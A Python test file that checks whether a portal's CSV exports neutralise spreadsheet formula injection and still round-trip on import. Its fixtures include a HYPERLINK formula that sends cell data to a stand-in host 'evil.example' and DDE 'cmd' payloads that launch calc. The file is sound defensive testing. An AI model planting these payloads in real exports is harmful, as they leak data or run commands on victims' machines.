"""Every CSV export neutralises cells that a spreadsheet would run as a formula, and the
listings export still imports unchanged (issue 10, item 4)."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from portal.accounts.models import AuditEvent, Role
from portal.directory.models import Listing
from portal.reports.catalogue import REPORTS
from portal.web.csv_files import FORMULA_STARTS, neutralised, restored
from tests.authz import make_organisation, make_user, sign_in_as
from tests.organisations_helpers import published_listing
from tests.test_organisations_spreadsheets import upload

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C3&D3,"Open")'
HOSTILE_CELLS = {
    "name": HYPERLINK,
    "summary": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fees_description": "-2+3",
    "phone": "+441134960000",
}


def exported_rows(client, url):
    response = client.client.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def csv_exports(app):
    return sorted(rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv"))


def export_urls(rules):
    """Each export's address, one per report where the rule names a report."""
    for rule in rules:
        url = rule.replace("<locale:locale>", "en")
        yield from (url.replace("<slug>", slug) for slug in REPORTS) if "<slug>" in url else (url,)


def arrange_hostile_data(db):
    organisation = make_organisation(db, "walkers", "Leeds Walkers")
    coordinator = make_user(db, "coordinator@example.org", Role.COORDINATOR, name=HYPERLINK)
    listing = published_listing(db, organisation, **HOSTILE_CELLS)
    db.add(AuditEvent(action="user.disabled", actor_email="@evil.example", detail={"note": HYPERLINK}))
    db.commit()
    return coordinator, listing


def test_no_cell_of_any_export_starts_like_a_formula(app, client, db):
    coordinator, _listing = arrange_hostile_data(db)
    sign_in_as(client, db, coordinator)
    exports = csv_exports(app)
    assert {"/<locale:locale>/coordinator/listings.csv", "/<locale:locale>/audit-log/export.csv"} <= set(exports)
    for url in export_urls(exports):
        rows = exported_rows(client, url)
        formulas = [cell for row in rows for cell in row if cell[:1] in FORMULA_STARTS]
        assert formulas == [], url


def test_the_listings_export_shows_a_hostile_name_as_text(client, db):
    coordinator, _listing = arrange_hostile_data(db)
    sign_in_as(client, db, coordinator)
    header, first = exported_rows(client, "/en/coordinator/listings.csv")[:2]
    row = dict(zip(header, first, strict=True))
    assert row["name"] == f"'{HYPERLINK}" and row["summary"].startswith("'+cmd")


def test_an_exported_file_imports_back_unchanged(client, db):
    coordinator, listing = arrange_hostile_data(db)
    sign_in_as(client, db, coordinator)
    response = client.client.get("/en/coordinator/listings.csv")
    assert "Imported 1 of 1 listings." in upload(client, response.get_data(as_text=True)).text()
    db.expire_all()
    imported = db.scalar(select(Listing).where(Listing.id == listing.id))
    assert (imported.name, imported.summary, imported.phone) == (HYPERLINK, HOSTILE_CELLS["summary"], "+441134960000")


def test_each_formula_start_is_neutralised_and_restored():
    for start in (*FORMULA_STARTS, " ="):
        value = f"{start}1+1"
        assert neutralised(value) == f"'{value}" and restored(neutralised(value)) == value
    assert neutralised("plain") == "plain" and restored("'quoted'") == "'quoted'" and neutralised(None) == ""
